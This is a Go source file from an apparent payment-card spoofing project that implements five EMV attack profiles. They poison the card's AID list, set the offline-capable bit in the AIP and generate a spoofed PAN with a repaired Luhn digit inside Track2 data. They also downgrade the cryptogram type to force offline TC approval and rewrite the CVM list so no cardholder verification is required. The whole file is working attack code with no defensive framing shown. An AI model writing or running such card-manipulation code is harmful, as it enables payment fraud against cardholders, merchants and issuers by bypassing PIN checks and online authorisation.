// Copyright 2026 The magsp00f Project Contributors.
// SPDX-License-Identifier: Apache-2.0
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package attack

import (
	"strings"

	emv "github.com/magsp00f/go-emv"
)

// Profiles returns the closed set of attack profiles, freshly constructed
// so callers cannot share or mutate configuration between engines.
func Profiles() []Profile {
	return []Profile{
		ppseAidPoisoningProfile(),
		aipForceOfflineProfile(),
		track2SpoofingProfile(),
		cryptogramDowngradeProfile(),
		cvmBypassProfile(),
	}
}

func ppseAidPoisoningProfile() Profile {
	return Profile{
		ID:               PPSEAidPoisoning,
		Description:      "PPSE AID poisoning (VISA to MasterCard)",
		DataRequirements: []string{"supported_aids"},
		Config: map[string]string{
			"original_aid": emv.AIDVisa,
			"spoofed_aid":  emv.AIDMastercard,
		},
		transform: func(card *emv.CardData, config map[string]string) Result {
			original := config["original_aid"]
			spoofed := config["spoofed_aid"]

			index := -1
			for i, aid := range card.AvailableAIDs {
				if aid == original {
					index = i
					break
				}
			}
			if index < 0 {
				return failure("source AID " + original + " not present on card")
			}

			poisoned := append([]string(nil), card.AvailableAIDs...)
			poisoned[index] = spoofed
			return Result{
				OK:     true,
				Before: original,
				After:  spoofed,
				Derived: map[string]string{
					"available_aids": strings.Join(poisoned, ","),
				},
			}
		},
	}
}

func aipForceOfflineProfile() Profile {
	return Profile{
		ID:               AIPForceOffline,
		Description:      "AIP force offline (set offline-capable bit)",
		DataRequirements: []string{"application_interchange_profile"},
		Config: map[string]string{
			"offline_bit_mask": "08",
		},
		transform: func(card *emv.CardData, _ map[string]string) Result {
			aip, err := emv.HexToBytes(card.AIP)
			if err != nil || len(aip) == 0 {
				return failure("AIP is empty or unparseable")
			}
			// 2000 becomes 2008, 6000 becomes 6008: the offline-capable
			// assertion lands in the AIP's final byte.
			modified := append([]byte(nil), aip...)
			modified[len(modified)-1] |= 0x08
			return Result{
				OK:     true,
				Before: card.AIP,
				After:  emv.BytesToHex(modified),
				Derived: map[string]string{
					"aip": emv.BytesToHex(modified),
				},
			}
		},
	}
}

func track2SpoofingProfile() Profile {
	return Profile{
		ID:               Track2Spoofing,
		Description:      "Track2 PAN spoofing with Luhn repair",
		DataRequirements: []string{"pan", "track2_data"},
		Config: map[string]string{
			"preserve_bin": "true",
		},
		transform: func(card *emv.CardData, _ map[string]string) Result {
			spoofed, ok := SpoofPAN(card.PAN)
			if !ok {
				return failure("PAN too short to respoof")
			}
			modified := strings.ReplaceAll(card.Track2, card.PAN, spoofed)
			if modified == card.Track2 {
				return failure("PAN not present in Track2 data")
			}
			return Result{
				OK:     true,
				Before: card.PAN,
				After:  spoofed,
				Derived: map[string]string{
					"pan":    spoofed,
					"track2": modified,
				},
			}
		},
	}
}

func cryptogramDowngradeProfile() Profile {
	return Profile{
		ID:               CryptogramDowngrade,
		Description:      "Cryptogram downgrade (force TC offline approval)",
		DataRequirements: []string{"cryptogram_data"},
		Config: map[string]string{
			"target_type": "TC",
		},
		transform: func(card *emv.CardData, _ map[string]string) Result {
			cid, err := emv.HexToBytes(card.Tags["9F27"])
			if err != nil || len(cid) == 0 {
				return failure("cryptogram information data is empty")
			}
			modified := append([]byte(nil), cid...)
			modified[0] = modified[0]&0x3F | 0x40
			return Result{
				OK:     true,
				Before: ClassifyCryptogram(cid[0]) + " " + emv.BytesToHex(cid),
				After:  "TC " + emv.BytesToHex(modified),
				Derived: map[string]string{
					"cryptogram_info_data": emv.BytesToHex(modified),
				},
			}
		},
	}
}

func cvmBypassProfile() Profile {
	return Profile{
		ID:               CVMBypass,
		Description:      "CVM bypass (no CVM required)",
		DataRequirements: []string{"cvm_list"},
		Config: map[string]string{
			"cvm_code":      "3F",
			"cvm_condition": "00",
		},
		transform: func(card *emv.CardData, _ map[string]string) Result {
			cvm, err := emv.HexToBytes(card.Tags["8E"])
			if err != nil || len(cvm) < 2 {
				return failure("CVM list shorter than one rule")
			}
			modified := append([]byte(nil), cvm...)
			modified[0] = 0x3F // no CVM required
			modified[1] = 0x00 // no additional conditions
			return Result{
				OK:     true,
				Before: emv.BytesToHex(cvm),
				After:  emv.BytesToHex(modified),
				Derived: map[string]string{
					"cvm_list": emv.BytesToHex(modified),
				},
			}
		},
	}
}

// SpoofPAN derives a replacement PAN from the original: the six-digit BIN
// is preserved, the middle digits are rotated, and the trailing Luhn check
// digit is recomputed so the result still validates. Returns ok=false when
// the PAN is too short to carry a BIN and a check digit.
func SpoofPAN(pan string) (string, bool) {
	if len(pan) < 8 {
		return "", false
	}
	// Malformed tag 5A data can leave non-digits anywhere in the PAN; the
	// check digit is only meaningful over an all-decimal string.
	for i := 0; i < len(pan); i++ {
		if pan[i] < '0' || pan[i] > '9' {
			return "", false
		}
	}
	digits := []byte(pan)
	for i := 6; i < len(digits)-1; i++ {
		digits[i] = byte('0' + (int(digits[i]-'0')+3)%10)
	}
	check := emv.LuhnCheckDigit(string(digits[:len(digits)-1]))
	digits[len(digits)-1] = byte('0' + check)
	return string(digits), true
}

// ClassifyCryptogram names the cryptogram type encoded in the top two bits
// of the cryptogram information data byte.
func ClassifyCryptogram(cid byte) string {
	switch cid & 0xC0 {
	case 0x80:
		return "ARQC"
	case 0x40:
		return "TC"
	case 0x00:
		return "AAC"
	default:
		return "RFU"
	}
}
